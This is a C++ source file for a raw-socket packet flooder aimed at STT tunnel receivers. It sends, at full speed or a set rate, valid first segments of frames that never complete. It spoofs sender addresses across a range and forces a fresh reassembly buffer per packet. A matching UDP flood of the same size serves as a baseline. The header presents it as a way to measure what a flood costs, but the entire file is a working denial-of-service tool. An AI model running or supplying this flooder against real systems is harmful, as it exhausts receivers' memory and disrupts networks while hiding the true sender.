// stt_flood: sends first segments of STT frames that never complete, as fast as it can or at
// a given packet rate; or, as the reference for what any flood costs, UDP datagrams of the
// same size from the same sources.
//
//   stt_flood IFACE DST_MAC DST_IP SRC_BASE_IP NSOURCES SECONDS [FRAME_LEN]
//             [--pps RATE] [--udp PORT]
//
// Every packet is a valid outer Ethernet/IPv4/TCP segment to port 7471 with
// correct checksums, carrying the first 1400 bytes (offset 0) of an STT frame
// that claims FRAME_LEN bytes (default 65535, the most a receiver must buffer
// for). The outer source address cycles through NSOURCES consecutive addresses
// from SRC_BASE_IP, and every packet has a new packet ID, so each one opens a
// new reassembly that no later segment completes. Sent with sendmmsg in
// batches on an AF_PACKET socket with PACKET_QDISC_BYPASS.
//
// --pps RATE paces the batches so that the average rate is RATE packets/s (a
// batch is sent when it is due; none is sent early). --udp PORT sends UDP
// datagrams to PORT instead, with correct checksums, the same addresses and the
// same frame length (1454 bytes), so that a flood of either kind costs the wire
// and the receiver's driver the same. Prints "sent=N seconds=S pps=R" at the end.

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <array>
#include <algorithm>
#include <chrono>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string_view>
#include <vector>

namespace {

constexpr std::size_t kPayload = 1400;
constexpr std::size_t kHdr = 14 + 20 + 20;
constexpr std::size_t kLen = kHdr + kPayload;
constexpr std::size_t kUdpPayload = kLen - 14 - 20 - 8;  // the same frame length
constexpr int kBatch = 64;

std::uint32_t sum16(const std::uint8_t* p, std::size_t n, std::uint32_t s = 0) {
  for (std::size_t i = 0; i + 1 < n; i += 2)
    s += (std::uint32_t{p[i]} << 8) | p[i + 1];
  if (n & 1) s += std::uint32_t{p[n - 1]} << 8;
  return s;
}
std::uint16_t fold(std::uint32_t s) {
  while (s >> 16)
    s = (s & 0xffff) + (s >> 16);
  return static_cast<std::uint16_t>(~s & 0xffff);
}
void put16(std::uint8_t* p, std::uint16_t v) {
  p[0] = static_cast<std::uint8_t>(v >> 8);
  p[1] = static_cast<std::uint8_t>(v);
}
void put32(std::uint8_t* p, std::uint32_t v) {
  put16(p, static_cast<std::uint16_t>(v >> 16));
  put16(p + 2, static_cast<std::uint16_t>(v));
}

bool parse_mac(const char* s, std::uint8_t* out) {
  unsigned b[6];
  if (std::sscanf(s, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6)
    return false;
  for (int i = 0; i < 6; ++i)
    out[i] = static_cast<std::uint8_t>(b[i]);
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 7) {
    std::fprintf(stderr,
                 "usage: stt_flood IFACE DST_MAC DST_IP SRC_BASE_IP NSOURCES SECONDS "
                 "[FRAME_LEN] [--pps RATE] [--udp PORT]\n");
    return 2;
  }
  std::uint32_t frame_len = 65535;
  double pps = 0;
  int udp_port = -1;
  for (int i = 7; i < argc; ++i) {
    const std::string_view a = argv[i];
    if (a == "--pps" && i + 1 < argc) {
      pps = std::atof(argv[++i]);
    } else if (a == "--udp" && i + 1 < argc) {
      udp_port = std::atoi(argv[++i]);
    } else if (i == 7 && a[0] != '-') {
      frame_len = static_cast<std::uint32_t>(std::atoi(argv[i]));
    } else {
      std::fprintf(stderr, "stt_flood: unexpected argument %s\n", argv[i]);
      return 2;
    }
  }
  if (pps < 0 || udp_port == 0 || udp_port > 65535) {
    std::fprintf(stderr, "stt_flood: --pps must be >= 0, --udp PORT in 1..65535\n");
    return 2;
  }
  std::uint8_t dst_mac[6];
  in_addr dst{}, base{};
  if (!parse_mac(argv[2], dst_mac) || inet_pton(AF_INET, argv[3], &dst) != 1 ||
      inet_pton(AF_INET, argv[4], &base) != 1) {
    std::fprintf(stderr, "stt_flood: bad MAC or address\n");
    return 2;
  }
  const std::uint32_t nsrc = static_cast<std::uint32_t>(std::max(1, std::atoi(argv[5])));
  const double seconds = std::atof(argv[6]);
  if (frame_len <= kPayload || frame_len > 65535) {
    std::fprintf(stderr, "stt_flood: FRAME_LEN must be in (%zu, 65535]\n", kPayload);
    return 2;
  }

  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) {
    std::perror("socket");
    return 1;
  }
  const int one = 1;
  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
  const int sndbuf = 16 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
  sockaddr_ll sll{};
  sll.sll_family = AF_PACKET;
  sll.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  sll.sll_halen = 6;
  std::memcpy(sll.sll_addr, dst_mac, 6);
  if (sll.sll_ifindex == 0 || bind(fd, reinterpret_cast<sockaddr*>(&sll), sizeof sll) < 0) {
    std::perror("bind");
    return 1;
  }

  // A template; per packet only the source address, IDs and checksums change.
  const bool udp = udp_port > 0;
  std::array<std::uint8_t, kLen> tmpl{};
  std::uint8_t* e = tmpl.data();
  std::memcpy(e, dst_mac, 6);
  const std::uint8_t src_mac[6] = {0x02, 0xf1, 0x00, 0x00, 0x00, 0x01};
  std::memcpy(e + 6, src_mac, 6);
  put16(e + 12, 0x0800);
  std::uint8_t* ip = e + 14;
  ip[0] = 0x45;
  put16(ip + 2, static_cast<std::uint16_t>(kLen - 14));
  put16(ip + 6, 0x4000);
  ip[8] = 64;
  ip[9] = udp ? 17 : 6;
  std::memcpy(ip + 16, &dst, 4);
  std::uint8_t* l4 = ip + 20;
  const std::size_t l4_hdr = udp ? 8 : 20;
  const std::size_t l4_len = kLen - 14 - 20;
  put16(l4 + 0, 50000);
  if (udp) {
    put16(l4 + 2, static_cast<std::uint16_t>(udp_port));
    put16(l4 + 4, static_cast<std::uint16_t>(l4_len));
  } else {
    put16(l4 + 2, 7471);
    put32(l4 + 4, frame_len << 16);  // offset 0 of a frame that claims frame_len bytes
    l4[12] = 5 << 4;
    l4[13] = 0x10;                   // ACK
  }
  std::uint8_t* pl = l4 + l4_hdr;
  const std::size_t pl_len = udp ? kUdpPayload : kPayload;
  for (std::size_t i = 0; i < pl_len; ++i)
    pl[i] = static_cast<std::uint8_t>(i);
  pl[0] = 0;                        // STT version 0; the header is plausible
  const std::uint32_t payload_sum = sum16(pl, pl_len);
  const std::uint32_t csum_off = udp ? 6 : 16;

  std::vector<std::array<std::uint8_t, kLen>> bufs(kBatch, tmpl);
  std::vector<iovec> iov(kBatch);
  std::vector<mmsghdr> msgs(kBatch);
  for (int i = 0; i < kBatch; ++i) {
    iov[i] = {bufs[i].data(), kLen};
    msgs[i] = {};
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  const std::uint32_t base_h = ntohl(base.s_addr);
  std::uint32_t id = 0x10000000;
  std::uint64_t sent = 0, batches = 0;
  const auto t0 = std::chrono::steady_clock::now();
  const auto end = t0 + std::chrono::duration<double>(seconds);
  while (std::chrono::steady_clock::now() < end) {
    if (pps > 0) {
      // Paced: batch k is due at t0 + k * kBatch / pps; wait for it, never send early.
      const auto due = t0 + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                                std::chrono::duration<double>(batches * kBatch / pps));
      if (due >= end) break;
      const auto ns = std::chrono::duration_cast<std::chrono::nanoseconds>(
                          due.time_since_epoch())
                          .count();
      const timespec ts{static_cast<time_t>(ns / 1000000000), static_cast<long>(ns % 1000000000)};
      while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, nullptr) == EINTR) {
      }
    }
    ++batches;
    for (int i = 0; i < kBatch; ++i) {
      std::uint8_t* p = bufs[i].data() + 14;
      const std::uint32_t src = htonl(base_h + (id % nsrc));
      std::memcpy(p + 12, &src, 4);
      put16(p + 4, static_cast<std::uint16_t>(id));
      put16(p + 10, 0);
      put16(p + 10, fold(sum16(p, 20)));
      std::uint8_t* t = p + 20;
      if (!udp) put32(t + 8, id);  // packet ID: a new reassembly per packet
      put16(t + csum_off, 0);
      std::uint32_t s = sum16(p + 12, 8) + p[9] + static_cast<std::uint32_t>(l4_len);
      s = sum16(t, l4_hdr, s) + payload_sum;
      const std::uint16_t c = fold(s);
      put16(t + csum_off, udp && c == 0 ? 0xffff : c);
      ++id;
    }
    const int n = sendmmsg(fd, msgs.data(), kBatch, 0);
    if (n > 0) sent += static_cast<std::uint64_t>(n);
  }
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  std::printf("sent=%llu seconds=%.2f pps=%.0f\n", static_cast<unsigned long long>(sent), secs,
              static_cast<double>(sent) / secs);
  return 0;
}
